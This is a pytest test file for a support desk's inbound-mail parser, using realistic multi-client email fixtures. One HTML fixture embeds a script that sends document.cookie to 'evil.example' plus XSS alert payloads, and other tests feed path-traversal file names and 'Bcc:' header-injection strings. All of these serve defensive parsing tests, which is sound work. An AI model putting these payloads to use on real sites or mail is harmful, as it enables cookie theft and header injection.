"""Inbound support mail (tickets.mail): messages as Thunderbird, Outlook, Foxmail/QQ Mail and Gmail
write them, HTML-only mail, bounces, auto-replies and broken messages; then quoted replies, ticket
numbers in subjects and threading headers; last, that no input makes the parser fail (hypothesis).
"""

import base64
import hashlib
from datetime import UTC, datetime, timedelta, timezone

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tickets.mail import (
    MAX_REFERENCES,
    Attachment,
    InboundMessage,
    MailParseError,
    find_ticket_number,
    make_message_id,
    parse_message,
    reply_subject,
    strip_quoted_reply,
    thread_headers,
)

CHINA = timezone(timedelta(hours=8))
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
PDF = b"%PDF-1.4\n%\xc7\xec\x8f\xa2\n"


def crlf(text: str, charset: str = "utf-8") -> bytes:
    """A message written as text, with the CRLF line ends mail has on the wire."""
    return text.replace("\n", "\r\n").encode(charset)


def encoded_word(data: bytes, label: str) -> str:
    """An RFC 2047 word carrying `data`, labelled with charset `label`."""
    return f"=?{label}?B?{base64.b64encode(data).decode()}?="


def base64_body(data: bytes) -> str:
    return base64.encodebytes(data).decode()


# --- Mailers ------------------------------------------------------------------------------------

# Thunderbird: format=flowed UTF-8 text, quoting below an "On ... wrote:" line, a PDF with an
# RFC 2231 file name. The text's first paragraph has a soft line break (a line ending in a space).
THUNDERBIRD_TEXT = (
    "Hello,\n"
    "\n"
    'the printer still shows "offline" after the restart. I attached the \n'
    "status page it printed.\n"
    "\n"
    "Grüße\n"
    "Anna\n"
    "\n"
    "On 05.01.26 10:00, Example Support wrote:\n"
    "> Please restart the printer and tell us whether the problem persists.\n"
    ">\n"
    "> Kind regards, the support team\n"
)
THUNDERBIRD = crlf(
    f"""\
Message-ID: <8f2c1e4a-5b6d-4c3e-9a1b-2d3e4f5a6b7c@example.org>
Date: Tue, 6 Jan 2026 09:15:42 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Subject: Re: [T-2026-000123] Printer on floor 3 is offline
Content-Language: en-US
To: Example Support <support@example.com>
References: <ticket-opened.T-2026-000123@example.com>
 <179642308467.12650.1231@example.com>
From: Anna Schmidt <Anna.Schmidt@Example.org>
In-Reply-To: <179642308467.12650.1231@example.com>
Content-Type: multipart/mixed; boundary="------------a1B2c3D4e5F6g7H8"

This is a multi-part message in MIME format.
--------------a1B2c3D4e5F6g7H8
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 8bit

{THUNDERBIRD_TEXT}
--------------a1B2c3D4e5F6g7H8
Content-Type: application/pdf; name="=?UTF-8?Q?Statusseite_M=C3=A4rz=2Epdf?="
Content-Disposition: attachment; filename*=UTF-8''Statusseite%20M%C3%A4rz.pdf
Content-Transfer-Encoding: base64

{base64_body(PDF)}
--------------a1B2c3D4e5F6g7H8--
"""
)


def test_thunderbird_reply_with_a_pdf():
    message = parse_message(THUNDERBIRD)

    assert message == InboundMessage(
        message_id="<8f2c1e4a-5b6d-4c3e-9a1b-2d3e4f5a6b7c@example.org>",
        in_reply_to=["<179642308467.12650.1231@example.com>"],
        references=["<ticket-opened.T-2026-000123@example.com>", "<179642308467.12650.1231@example.com>"],
        from_address="anna.schmidt@example.org",
        from_name="Anna Schmidt",
        subject="Re: [T-2026-000123] Printer on floor 3 is offline",
        date=datetime(2026, 1, 6, 8, 15, 42, tzinfo=UTC),
        # The soft line break of format=flowed is joined; quoted lines keep their "> ".
        text=(
            "Hello,\n\n"
            'the printer still shows "offline" after the restart. I attached the status page it printed.\n\n'
            "Grüße\nAnna\n\n"
            "On 05.01.26 10:00, Example Support wrote:\n"
            "> Please restart the printer and tell us whether the problem persists.\n"
            ">\n"
            "> Kind regards, the support team"
        ),
        attachments=[Attachment("Statusseite März.pdf", "application/pdf", PDF)],
        is_automatic=False,
    )
    assert message.parent_ids == message.references
    assert strip_quoted_reply(message.text).endswith("Grüße\nAnna")
    assert find_ticket_number(message.subject) == "T-2026-000123"


# Outlook: multipart/related around multipart/alternative, quoted-printable us-ascii text with a
# soft line break, the previous message below a rule and a From/Sent/To/Subject block, and the
# screenshot pasted into the text as an inline image.
OUTLOOK = crlf(
    f"""\
Received: from TYZPR06MB1234.apcprd06.prod.outlook.com ([fe80::1]) by
 TYZPR06MB1234.apcprd06.prod.outlook.com ([fe80::1%5]) with mapi id 15.20.8335.010;
 Wed, 7 Jan 2026 02:31:05 +0000
From: "Li, Wei" <wei.li@contoso.cn>
To: Example Support <support@example.com>
Subject: RE: [T-2026-000124] VPN access for the new office
Thread-Topic: [T-2026-000124] VPN access for the new office
Thread-Index: AQHcfQ1b2c3d4e5f6g7h8i9j0k==
Date: Wed, 7 Jan 2026 02:31:05 +0000
Message-ID: <TYZPR06MB12345678ABCDEF0123456789ABCD@TYZPR06MB1234.apcprd06.prod.outlook.com>
References: <177000000000.100.1@example.com>
In-Reply-To: <177000000000.100.1@example.com>
Accept-Language: zh-CN, en-US
Content-Language: en-US
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator:
Content-Type: multipart/related;
	boundary="_004_TYZPR06MB1234_";
	type="multipart/alternative"
MIME-Version: 1.0

--_004_TYZPR06MB1234_
Content-Type: multipart/alternative;
	boundary="_000_TYZPR06MB1234_"

--_000_TYZPR06MB1234_
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

Hi team,

The VPN works now, thank you! The new profile also connects from the Shangh=
ai office.

[cid:image001.png@01DC7F00.12345670]

Best regards,
Wei

________________________________
From: Example Support <support@example.com>
Sent: Tuesday, January 6, 2026 5:00 PM
To: Li, Wei <wei.li@contoso.cn>
Subject: [T-2026-000124] Re: VPN access for the new office

Please try again with the new profile.

--_000_TYZPR06MB1234_
Content-Type: text/html; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

<html><head><meta http-equiv=3D"Content-Type" content=3D"text/html; charset=
=3Dus-ascii"><style>p.MsoNormal{{margin:0cm}}</style></head><body lang=3D"EN-US">
<div class=3D"WordSection1"><p class=3D"MsoNormal">Hi team,</p>
<p class=3D"MsoNormal">The VPN works now, thank you!</p>
<p class=3D"MsoNormal"><img width=3D"1" height=3D"1" src=3D"cid:image001.png@01DC7F00.12345670"></p>
</div></body></html>

--_000_TYZPR06MB1234_--

--_004_TYZPR06MB1234_
Content-Type: image/png; name="image001.png"
Content-Description: image001.png
Content-Disposition: inline; filename="image001.png"; size=68;
	creation-date="Wed, 07 Jan 2026 02:31:04 GMT";
	modification-date="Wed, 07 Jan 2026 02:31:04 GMT"
Content-ID: <image001.png@01DC7F00.12345670>
Content-Transfer-Encoding: base64

{base64_body(PNG)}
--_004_TYZPR06MB1234_--
"""
)


def test_outlook_reply_with_an_inline_screenshot():
    message = parse_message(OUTLOOK)

    assert message.message_id == "<TYZPR06MB12345678ABCDEF0123456789ABCD@TYZPR06MB1234.apcprd06.prod.outlook.com>"
    assert message.in_reply_to == message.references == ["<177000000000.100.1@example.com>"]
    assert (message.from_name, message.from_address) == ("Li, Wei", "wei.li@contoso.cn")
    assert message.subject == "RE: [T-2026-000124] VPN access for the new office"
    assert message.date == datetime(2026, 1, 7, 2, 31, 5, tzinfo=UTC)
    # The plain version wins over the HTML one; quoted-printable soft breaks are joined.
    assert "The new profile also connects from the Shanghai office." in message.text
    assert "<p" not in message.text and "MsoNormal" not in message.text
    assert strip_quoted_reply(message.text) == (
        "Hi team,\n\n"
        "The VPN works now, thank you! The new profile also connects from the Shanghai office.\n\n"
        "[cid:image001.png@01DC7F00.12345670]\n\n"
        "Best regards,\nWei"
    )
    assert message.attachments == [Attachment("image001.png", "image/png", PNG)]
    assert not message.is_automatic


# Foxmail / QQ Mail: everything labelled GBK, but the sender's name has 䶮, which only GB18030
# encodes; the subject is split into two encoded words in the middle of a character; the
# previous message follows "原始邮件" and a 发件人/发送时间 block.
FOXMAIL_NAME = "王䶮"
FOXMAIL_SUBJECT = "回复：[T-2026-000125] 发票抬头需要修改"
FOXMAIL_TEXT = (
    "您好，\n"
    "\n"
    "发票抬头请改为：上海示例贸易有限公司。\n"
    "\n"
    "王䶮\n"
    "\n"
    "------------------ 原始邮件 ------------------\n"
    '发件人: "客服"<support@example.com>;\n'
    "发送时间: 2026年1月7日(星期三) 下午5:00\n"
    '收件人: "王䶮"<wangyan@qq.com>;\n'
    "主题: [T-2026-000125] Re: 发票抬头需要修改\n"
    "\n"
    "请提供新的发票抬头。\n"
)
FOXMAIL_HTML = (
    "<html><head><meta http-equiv='Content-Type' content='text/html; charset=GB18030'></head><body>"
    "<div>您好，</div><div>发票抬头请改为：上海示例贸易有限公司。</div></body></html>"
)
_subject_bytes = FOXMAIL_SUBJECT.encode("gb18030")
FOXMAIL = crlf(
    f"""\
From: "{encoded_word(FOXMAIL_NAME.encode("gb18030"), "gbk")}" <wangyan@qq.com>
To: "support" <support@example.com>
Subject: {encoded_word(_subject_bytes[:5], "gbk")}
 {encoded_word(_subject_bytes[5:], "gbk")}
Mime-Version: 1.0
Content-Type: multipart/alternative;
	boundary="----=_NextPart_695F4B2F_0A1B2C3D_12345678"
Content-Transfer-Encoding: 8Bit
Date: Thu, 8 Jan 2026 14:20:31 +0800
X-Priority: 3
Message-ID: <tencent_0123456789ABCDEF0123456789AB@qq.com>
X-QQ-MIME: TCMime 1.0 by Tencent
X-Mailer: QQMail 2.x
X-QQ-Mailer: QQMail 2.x
References: <177000000000.100.2@example.com>
In-Reply-To: <177000000000.100.2@example.com>

This is a multi-part message in MIME format.

------=_NextPart_695F4B2F_0A1B2C3D_12345678
Content-Type: text/plain;
	charset="gbk"
Content-Transfer-Encoding: base64

{base64_body(FOXMAIL_TEXT.encode("gb18030"))}
------=_NextPart_695F4B2F_0A1B2C3D_12345678
Content-Type: text/html;
	charset="gbk"
Content-Transfer-Encoding: base64

{base64_body(FOXMAIL_HTML.encode("gb18030"))}
------=_NextPart_695F4B2F_0A1B2C3D_12345678--
"""
)


def test_foxmail_reply_in_gbk():
    message = parse_message(FOXMAIL)

    assert (message.from_name, message.from_address) == ("王䶮", "wangyan@qq.com")
    assert message.subject == FOXMAIL_SUBJECT
    assert message.date == datetime(2026, 1, 8, 14, 20, 31, tzinfo=CHINA)
    assert message.message_id == "<tencent_0123456789ABCDEF0123456789AB@qq.com>"
    assert message.text == FOXMAIL_TEXT.strip("\n")
    assert strip_quoted_reply(message.text) == "您好，\n\n发票抬头请改为：上海示例贸易有限公司。\n\n王䶮"
    assert message.attachments == []
    assert find_ticket_number(message.subject) == "T-2026-000125"
    assert reply_subject("T-2026-000125", message.subject) == "[T-2026-000125] Re: 发票抬头需要修改"


# Gmail: quoted-printable UTF-8, the attribution line wrapped inside the address, quoted lines.
GMAIL = crlf(
    """\
MIME-Version: 1.0
Date: Fri, 9 Jan 2026 11:02:17 +0800
References: <177000000000.100.3@example.com> <177000000000.100.4@example.com>
In-Reply-To: <177000000000.100.4@example.com>
Message-ID: <CAF=7x+QpZ3aB1c2D3e4F5g6H7i8J9k0LmNoPqRsT@mail.gmail.com>
Subject: Re: [T-2026-000126] Cannot export the customer list
From: Chen Jie <chen.jie.example@gmail.com>
To: Example Support <support@example.com>
Content-Type: multipart/alternative; boundary="000000000000a1b2c3d4e5f60718"

--000000000000a1b2c3d4e5f60718
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

Thanks, the export works again =E2=80=94 all 12 000 rows.

On Thu, Jan 8, 2026 at 6:45=E2=80=AFPM Example Support <
support@example.com> wrote:

> Could you try again? We fixed the export.
>
> --
> Example Support
>

--000000000000a1b2c3d4e5f60718
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

<div dir=3D"ltr">Thanks, the export works again =E2=80=94 all 12 000 rows.</d=
iv><br><div class=3D"gmail_quote"><div dir=3D"ltr" class=3D"gmail_attr">On Th=
u, Jan 8, 2026 at 6:45=E2=80=AFPM Example Support &lt;<a href=3D"mailto:suppo=
rt@example.com">support@example.com</a>&gt; wrote:<br></div><blockquote class=
=3D"gmail_quote" style=3D"margin:0px 0px 0px 0.8ex">Could you try again? We f=
ixed the export.</blockquote></div>

--000000000000a1b2c3d4e5f60718--
"""
)


def test_gmail_reply_quoting_the_previous_message():
    message = parse_message(GMAIL)

    assert message.message_id == "<CAF=7x+QpZ3aB1c2D3e4F5g6H7i8J9k0LmNoPqRsT@mail.gmail.com>"
    assert message.in_reply_to == ["<177000000000.100.4@example.com>"]
    assert message.parent_ids == ["<177000000000.100.3@example.com>", "<177000000000.100.4@example.com>"]
    assert (message.from_name, message.from_address) == ("Chen Jie", "chen.jie.example@gmail.com")
    assert message.date == datetime(2026, 1, 9, 3, 2, 17, tzinfo=UTC)
    assert message.text.startswith("Thanks, the export works again — all 12 000 rows.\n\nOn Thu, Jan 8, 2026")
    assert "6:45\u202fPM" in message.text  # Gmail's narrow no-break space survives in plain text
    assert strip_quoted_reply(message.text) == "Thanks, the export works again — all 12 000 rows."


def test_gmail_html_alone_gives_the_same_reply():
    html_only = GMAIL.replace(b'multipart/alternative; boundary="000000000000a1b2c3d4e5f60718"', b"text/plain")
    start = GMAIL.index(b"--000000000000a1b2c3d4e5f60718\r\nContent-Type: text/html")
    html_part = GMAIL[start:].split(b"\r\n\r\n", 1)[1].rsplit(b"--000000000000a1b2c3d4e5f60718--", 1)[0]
    headers = html_only.split(b"\r\n\r\n", 1)[0].replace(b"Content-Type: text/plain", b"Content-Type: text/html")
    raw = headers + b"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n" + html_part

    message = parse_message(raw)

    assert message.text == (
        "Thanks, the export works again — all 12 000 rows.\n"
        "\n"  # Gmail's <br> between the text and the quotation
        "On Thu, Jan 8, 2026 at 6:45 PM Example Support <support@example.com> wrote:\n"
        "\n"
        "> Could you try again? We fixed the export."
    )
    assert strip_quoted_reply(message.text) == "Thanks, the export works again — all 12 000 rows."


HTML_ONLY = crlf(
    f"""\
From: {encoded_word("刘洋".encode(), "UTF-8")} <liu.yang@163.com>
To: support@example.com
Subject: Order 4711 arrived damaged
Date: Sat, 10 Jan 2026 20:00:00 +0800
Message-ID: <5e6f7a8b.1234.19b9c0d1e2f.Coremail.liu.yang@163.com>
MIME-Version: 1.0
Content-Type: text/html; charset=UTF-8
Content-Transfer-Encoding: 8bit

<!DOCTYPE html><html><head><meta charset="utf-8"><title>Order 4711</title>
<style>body {{ font-family: sans-serif }}</style>
<script>document.location = 'https://evil.example/?c=' + document.cookie</script></head>
<body><p>Hello,</p>
<p>order&nbsp;#4711 arrived   damaged &amp; incomplete: the box said &lt;fragile&gt;.</p>
<ul><li>2 &times; cups</li><li>1 &#215; teapot</li></ul>
<p>价格：&yen;120</p>
<div>On Mon, 5 Jan 2026, Support wrote:</div><blockquote><p>Thanks for your order.</p></blockquote>
<img src="x" onerror="alert(1)"><script>alert(2)</script></body></html>
"""
)


def test_html_only_message_becomes_plain_text_without_scripts_or_styles():
    message = parse_message(HTML_ONLY)

    assert message.from_name == "刘洋"
    assert message.text == (
        "Hello,\n\n"
        "order #4711 arrived damaged & incomplete: the box said <fragile>.\n\n"
        "- 2 × cups\n"
        "- 1 × teapot\n\n"
        "价格：¥120\n\n"
        "On Mon, 5 Jan 2026, Support wrote:\n\n"
        "> Thanks for your order."
    )
    for hidden in ("document.cookie", "alert", "font-family", "Order 4711"):
        assert hidden not in message.text
    assert strip_quoted_reply(message.text).endswith("价格：¥120")


# A Postfix bounce of one of our replies.
BOUNCE = crlf(
    """\
Return-Path: <>
Received: by mx.example.com (Postfix) id 6F1A2B3C4D; Sat, 10 Jan 2026 03:04:05 +0000 (UTC)
Date: Sat, 10 Jan 2026 03:04:05 +0000 (UTC)
From: MAILER-DAEMON@mx.example.com (Mail Delivery System)
Subject: Undelivered Mail Returned to Sender
To: support@example.com
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
	boundary="6F1A2B3C4D.1768014245/mx.example.com"
Message-Id: <20260110030405.6F1A2B3C4D@mx.example.com>

This is a MIME-encapsulated message.

--6F1A2B3C4D.1768014245/mx.example.com
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mx.example.com.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients.

<nobody@customer.example>: host mx.customer.example[203.0.113.7] said: 550
    5.1.1 <nobody@customer.example>: Recipient address rejected: User unknown

--6F1A2B3C4D.1768014245/mx.example.com
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.example.com
Arrival-Date: Sat, 10 Jan 2026 03:04:01 +0000 (UTC)

Final-Recipient: rfc822; nobody@customer.example
Action: failed
Status: 5.1.1

--6F1A2B3C4D.1768014245/mx.example.com
Content-Description: Undelivered Message
Content-Type: message/rfc822

Message-ID: <reply-1.T-2026-000127@example.com>
From: Example Support <support@example.com>
To: nobody@customer.example
Subject: [T-2026-000127] Re: Delivery address

We have changed the delivery address.

--6F1A2B3C4D.1768014245/mx.example.com--
"""
)


def test_bounce_is_automatic_and_carries_the_returned_message():
    message = parse_message(BOUNCE)

    assert message.is_automatic
    assert (message.from_name, message.from_address) == ("Mail Delivery System", "mailer-daemon@mx.example.com")
    assert message.date == datetime(2026, 1, 10, 3, 4, 5, tzinfo=UTC)
    assert message.text.startswith("This is the mail system at host mx.example.com.")
    assert "Recipient address rejected" in message.text
    assert "We have changed" not in message.text  # the returned message is an attachment, not text
    report, returned = message.attachments
    assert report.content_type == "message/delivery-status"
    assert b"Action: failed" in report.content
    assert (returned.filename, returned.content_type) == ("message.eml", "message/rfc822")
    original = parse_message(returned.content)
    assert original.message_id == "<reply-1.T-2026-000127@example.com>"
    assert find_ticket_number(original.subject) == "T-2026-000127"


OUT_OF_OFFICE = crlf(
    f"""\
From: {encoded_word("张三".encode(), "UTF-8")} <zhang.san@customer.example>
To: support@example.com
Subject: {encoded_word("自动回复：[T-2026-000128] Re: 合同续签".encode(), "UTF-8")}
Auto-Submitted: auto-replied
X-Auto-Response-Suppress: All
Date: Mon, 12 Jan 2026 09:00:00 +0800
Message-ID: <ooo-20260112090000@customer.example>
In-Reply-To: <177000000000.100.5@example.com>
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

{base64_body("我正在休假，1月19日返回。紧急事务请联系李四。".encode())}"""
)


def test_out_of_office_reply_is_automatic():
    message = parse_message(OUT_OF_OFFICE)

    assert message.is_automatic
    assert message.from_name == "张三"
    assert message.subject == "自动回复：[T-2026-000128] Re: 合同续签"
    assert find_ticket_number(message.subject) == "T-2026-000128"
    assert message.text == "我正在休假，1月19日返回。紧急事务请联系李四。"


PLAIN = b"From: customer@example.net\r\nSubject: Hello\r\nMessage-ID: <m1@example.net>\r\n\r\nHi there.\r\n"


@pytest.mark.parametrize(
    "header",
    [
        "Auto-Submitted: auto-generated",
        "Auto-Submitted: auto-replied; owner-email=a@example.net",
        "X-Autoreply: yes",
        "X-Autorespond: Out of office",
        "Precedence: bulk",
        "Precedence: junk",
        "Precedence: auto_reply",
        "Precedence: list",
        "Return-Path: <>",
        "X-Failed-Recipients: nobody@example.net",
        "Content-Type: multipart/report; report-type=delivery-status; boundary=x",
    ],
)
def test_each_mark_of_automatic_mail_is_recognised(header):
    assert not parse_message(PLAIN).is_automatic
    assert parse_message(header.encode() + b"\r\n" + PLAIN).is_automatic


@pytest.mark.parametrize(
    "header",
    ["Auto-Submitted: no", "Precedence: first-class", "Return-Path: <customer@example.net>", "X-Priority: 1"],
)
def test_ordinary_headers_do_not_make_mail_automatic(header):
    assert not parse_message(header.encode() + b"\r\n" + PLAIN).is_automatic


@pytest.mark.parametrize("sender", ["MAILER-DAEMON@mx.example.net", "postmaster@example.net"])
def test_mail_system_senders_are_automatic(sender):
    assert parse_message(PLAIN.replace(b"customer@example.net", sender.encode(), 1)).is_automatic


BROKEN = (
    b"Subject: =?utf-8?B?broken\r\n"
    b"Date: Thursday, the 32nd of Smarch\r\n"
    b"Content-Type: text/plain; charset=x-no-such-charset\r\n"
    b"Content-Transfer-Encoding: quoted-printable\r\n"
    b"\r\n"
    b"caf=C3=A9 =E4=B8=AD=E6=96=87 and a stray =\xff byte\r\n"
)


def test_message_without_message_id_from_or_date_gets_what_can_be_read():
    message = parse_message(BROKEN)

    assert message.message_id == f"<{hashlib.sha256(BROKEN).hexdigest()}@message-id.invalid>"
    assert parse_message(BROKEN).message_id == message.message_id  # fetched twice, the same id
    assert parse_message(BROKEN + b"\r\n").message_id != message.message_id
    assert message.date is None
    assert (message.from_address, message.from_name) == ("", "")
    assert message.subject == "=?utf-8?B?broken"
    assert message.text.startswith("café 中文 and a stray")
    assert message.in_reply_to == message.references == []


@pytest.mark.parametrize("raw", [b"", b"   \r\n\r\n\t"])
def test_nothing_is_not_a_message(raw):
    with pytest.raises(MailParseError):
        parse_message(raw)


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        ("Mon, 5 Jan 2026 10:00:00 +0800", datetime(2026, 1, 5, 10, tzinfo=CHINA)),
        ("5 Jan 2026 02:00:00 GMT", datetime(2026, 1, 5, 2, tzinfo=UTC)),
        ("Mon, 5 Jan 2026 02:00:00 -0000", datetime(2026, 1, 5, 2, tzinfo=UTC)),  # zone unknown: UTC
        ("Mon, 5 Jan 2026 02:00:00 +0000 (UTC)", datetime(2026, 1, 5, 2, tzinfo=UTC)),
        ("Mon, 5 Jan 2026 25:61:00 +0800", None),
        ("Mon, 5 Jan 2026 10:00:00 +9999", None),
        ("2026-01-05", None),
        ("", None),
    ],
)
def test_dates_are_aware_or_none(header, expected):
    message = parse_message(f"Date: {header}\r\n".encode() + PLAIN)
    assert message.date == expected
    assert message.date is None or message.date.tzinfo is not None


@pytest.mark.parametrize(
    ("disposition", "expected"),
    [
        ("attachment; filename*=gbk''%B1%A8%BC%DB%B5%A5.pdf", "报价单.pdf"),  # RFC 2231, GBK
        # RFC 2047 inside the quotes, as Foxmail and Outlook write it
        (f'attachment; filename="{encoded_word("报价单".encode("gbk"), "GBK")}.pdf"', "报价单.pdf"),
        ('attachment; filename="报价单.pdf"', "报价单.pdf"),  # raw UTF-8
        ("attachment; filename*0*=utf-8''%E6%8A%A5%E4%BB%B7; filename*1*=%E5%8D%95.pdf", "报价单.pdf"),
        ('attachment; filename="..\\\\..\\\\Windows\\\\evil.pdf"', "evil.pdf"),
        ('attachment; filename="/etc/passwd"', "passwd"),
        ("attachment", "attachment-1.pdf"),
    ],
)
def test_attachment_file_names_are_decoded_and_stripped_of_paths(disposition, expected):
    raw = (
        "From: a@example.net\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
        "--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nSee the file.\r\n"
        "--b\r\nContent-Type: application/pdf\r\n"
        f"Content-Disposition: {disposition}\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERi0=\r\n--b--\r\n"
    ).encode()
    message = parse_message(raw)
    assert message.text == "See the file."
    assert [attachment.filename for attachment in message.attachments] == [expected]
    assert message.attachments[0].content == b"%PDF-"


@pytest.mark.parametrize(
    ("label", "body", "expected"),
    [
        ("gb2312", "王䶮".encode("gb18030"), "王䶮"),  # GB2312 labels hide GB18030 text
        ("GBK", "测试".encode("gbk"), "测试"),
        ("utf-8", "测试".encode("gbk"), "测试"),  # mislabelled: read as GB18030 since UTF-8 fails
        ("iso-8859-1", "café".encode("latin-1"), "café"),
        ("us-ascii", "café".encode(), "café"),
        ("no-such-charset", "café".encode(), "café"),
        ("utf-8", b"caf\xff", "caf\ufffd"),
    ],
)
def test_body_charsets(label, body, expected):
    raw = f"From: a@example.net\r\nContent-Type: text/plain; charset={label}\r\n\r\n".encode() + body
    assert parse_message(raw).text == expected


def test_raw_8bit_headers_are_read_as_utf8_or_gb18030():
    utf8 = "Subject: 发票问题\r\nFrom: 王䶮 <w@example.cn>\r\n\r\nx".encode()
    gbk = "Subject: 发票问题\r\nFrom: 王䶮 <w@example.cn>\r\n\r\nx".encode("gb18030")
    for raw in (utf8, gbk):
        message = parse_message(raw)
        assert (message.subject, message.from_name, message.from_address) == ("发票问题", "王䶮", "w@example.cn")


def test_encoded_headers_cannot_smuggle_line_breaks():
    smuggled = encoded_word(b"Hello\r\nBcc: victim@example.net", "utf-8")
    raw = f"Subject: {smuggled}\r\n\r\nx".encode()
    assert parse_message(raw).subject == "Hello Bcc: victim@example.net"


def test_deeply_nested_multiparts_do_not_exhaust_the_parser():
    raw = b"From: a@example.net\r\nSubject: Deep\r\nContent-Type: multipart/mixed; boundary=b0\r\n\r\n"
    for level in range(1, 3000):
        raw += b"--b%d\r\nContent-Type: multipart/mixed; boundary=b%d\r\n\r\n" % (level - 1, level)
    message = parse_message(raw)
    assert (message.subject, message.from_address) == ("Deep", "a@example.net")


def test_a_parameter_given_whole_and_in_pieces_does_not_break_parsing():
    # Python's own MIME parser raises TypeError on this header.
    raw = (
        b"Content-Type: multipart/mixed; boundary=x; name*=utf-8''a.txt; name*0*=b\r\n\r\n"
        b"--x\r\nContent-Type: text/plain\r\n\r\nstill read\r\n--x--\r\n"
    )
    assert parse_message(raw).text == "still read"


# --- Quoted replies -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "quoted",
    [
        "On Mon, 5 Jan 2026 at 10:00, Support <support@example.com> wrote:\n> Old text\n> more",
        "On Mon, Jan 5, 2026 at 10:00 AM Example Support <\nsupport@example.com> wrote:\n\n> Old text",
        "-----Original Message-----\nFrom: Support\nSent: Monday\nSubject: Old\n\nOld text",
        "----- Original Message -----\nOld text",
        "在 2026年1月5日 10:00，客服 写道：\n> 旧内容",
        "客服 <support@example.com> 于2026年1月5日周一 10:00写道：\n\n> 旧内容",
        "客服 <support@example.com>\n于2026年1月5日周一 10:00写道：\n\n> 旧内容",
        '------------------ 原始邮件 ------------------\n发件人: "客服"<support@example.com>;\n主题: 旧',
        "发件人： 客服\n发送时间： 2026-01-05 10:00\n收件人： 王䶮\n主题： 旧\n\n旧内容",
        "From: Support <support@example.com>\nSent: Monday, January 5, 2026 10:00 AM\nTo: Wei\n\nOld text",
        "*From:* Support <support@example.com>\n*Date:* Monday\n*To:* Wei\n\nOld text",
        "________________________________\nFrom: Support\nOld text",
        "Support wrote:\n> Old text",
    ],
)
def test_strip_quoted_reply_cuts_the_previous_conversation(quoted):
    reply = "Thanks, that fixed it.\n\nBest,\nWei"
    assert strip_quoted_reply(f"{reply}\n\n{quoted}\n") == reply


def test_strip_quoted_reply_keeps_answers_between_quotes():
    text = "> Is the printer on?\nYes.\n> Which model?\nHP 4250\n\nThanks"
    assert strip_quoted_reply(text) == "Yes.\nHP 4250\n\nThanks"


def test_strip_quoted_reply_keeps_ordinary_lines_that_look_like_separators():
    text = "From: our warehouse in Ningbo.\nThe parcel left today.\nMy colleague wrote: it is fine.\nOn time."
    assert strip_quoted_reply(text) == text


def test_strip_quoted_reply_of_nothing_but_quotation_is_empty():
    assert strip_quoted_reply("-----Original Message-----\nFrom: x\n\nold") == ""
    assert strip_quoted_reply("\r\n> only quoted\r\n") == ""


# --- Subjects -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("subject", "expected"),
    [
        ("[T-2026-000123] Re: Printer offline", "T-2026-000123"),
        ("RE: Printer offline T-2026-000123", "T-2026-000123"),
        ("回复：【T-2026-000123】打印机离线", "T-2026-000123"),
        ("[T-2026-000123] about T-2026-000999", "T-2026-000123"),
        ("Printer offline", None),
        ("T-2026-0001234 has seven digits", None),
        ("AT-2026-000123 is another code", None),
        ("T-２０２６-０００１２３ in full-width digits", None),
        ("", None),
    ],
)
def test_find_ticket_number(subject, expected):
    assert find_ticket_number(subject) == expected


@pytest.mark.parametrize(
    ("subject", "expected"),
    [
        ("Printer offline", "[T-2026-000123] Re: Printer offline"),
        ("Re: Printer offline", "[T-2026-000123] Re: Printer offline"),
        ("RE: Re: re[2]: Printer offline", "[T-2026-000123] Re: Printer offline"),
        ("回复：答复: 回复:打印机离线", "[T-2026-000123] Re: 打印机离线"),
        ("[T-2026-000123] Re: Printer offline", "[T-2026-000123] Re: Printer offline"),
        ("Re: [T-2026-000123] Re: Printer offline", "[T-2026-000123] Re: Printer offline"),
        ("AW: 【T-2026-000123】 打印机离线", "[T-2026-000123] Re: 打印机离线"),
        ("Re: Printer offline (T-2026-000123)", "[T-2026-000123] Re: Printer offline"),
        ("Re: see [T-2026-000999]", "[T-2026-000123] Re: see [T-2026-000999]"),
        ("Fwd: Printer offline", "[T-2026-000123] Re: Fwd: Printer offline"),
        ("Printer\r\n offline", "[T-2026-000123] Re: Printer offline"),
        ("", "[T-2026-000123] Re:"),
    ],
)
def test_reply_subject(subject, expected):
    assert reply_subject("T-2026-000123", subject) == expected


@settings(derandomize=True, max_examples=200, deadline=None, database=None)
@given(st.text(max_size=80))
def test_reply_subject_names_the_ticket_once_and_is_stable(subject):
    number = "T-2026-000123"
    replied = reply_subject(number, subject)
    assert replied.startswith(f"[{number}] Re:")
    assert find_ticket_number(replied) == number
    assert replied.count(number) == 1
    assert "\n" not in replied and "\r" not in replied
    assert reply_subject(number, replied) == replied


def test_reply_subject_refuses_what_is_not_a_ticket_number():
    with pytest.raises(ValueError):
        reply_subject("T-26-1", "Printer")


# --- Threading ----------------------------------------------------------------------------------


def test_make_message_id():
    first, second = make_message_id("support.example.com"), make_message_id("support.example.com")
    assert first != second
    assert first.startswith("<") and first.endswith("@support.example.com>")
    assert make_message_id("例子.中国").endswith("@xn--fsqu00a.xn--fiqs8s>")
    for domain in ("", "bad domain", "example.com>\r\nBcc: x@example.net", "a..b"):
        with pytest.raises(ValueError):
            make_message_id(domain)


